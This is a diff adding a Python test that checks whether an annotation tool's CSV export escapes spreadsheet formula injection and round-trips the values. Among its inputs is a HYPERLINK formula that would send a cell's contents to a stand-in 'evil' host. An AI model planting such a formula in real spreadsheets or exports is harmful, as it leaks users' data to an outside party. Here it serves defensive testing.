@@ -13,7 +13,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bench import active_order
-from eyespot.build.annotate import agreement, auditing, candidates, export
+from eyespot.build.annotate import agreement, auditing, candidates, export, queries
 from eyespot.build.annotate.active import likely_first
 from eyespot.build.annotate.auditing import Plan, draw
 from eyespot.build.annotate.desk import Candidate, Desk, Drawn
@@ -348,6 +348,22 @@ def test_a_photo_keeps_its_place_though_another_query_does_not_know_it(tmp_path:
         export.write(at, export.every(at), tmp_path / "out")
     lines = (tmp_path / "out" / "annotations.csv").read_text().splitlines()
     assert lines[1:] == ["q,aa,a.jpg", "r,aa,a.jpg"]
+
+
+def test_no_text_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
+    wanted = Wanted("=1+1", '=HYPERLINK("http://evil/"&A1,"x")', {"category": "@SUM(1)"})
+    with Desk(tmp_path / "ledger.sqlite") as at:
+        at.take_in([wanted])
+        at.extend("=1+1", [Candidate("-2", "-2+3.jpg"), Candidate("b", "\t=tab.jpg")])
+        at.mark("=1+1", "ada", {"-2": YES, "b": NO})
+        export.write(at, export.every(at), tmp_path / "out")
+    names = [tmp_path / "out" / name for name in ("queries.csv", "annotations.csv")]
+
+    cells = [cell for name in names for row in csv.reader(name.read_text().splitlines()) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
+    (back,) = queries.read(names[0])
+    assert (back.id, back.text, back.facts["category"]) == (wanted.id, wanted.text, "@SUM(1)")
+    assert inquire.read(*names).qrels.grades == {"=1+1": {"-2": 1, "b": 0}}
 
 
 def test_the_datasheet_says_who_and_how_much(out: Path) -> None:
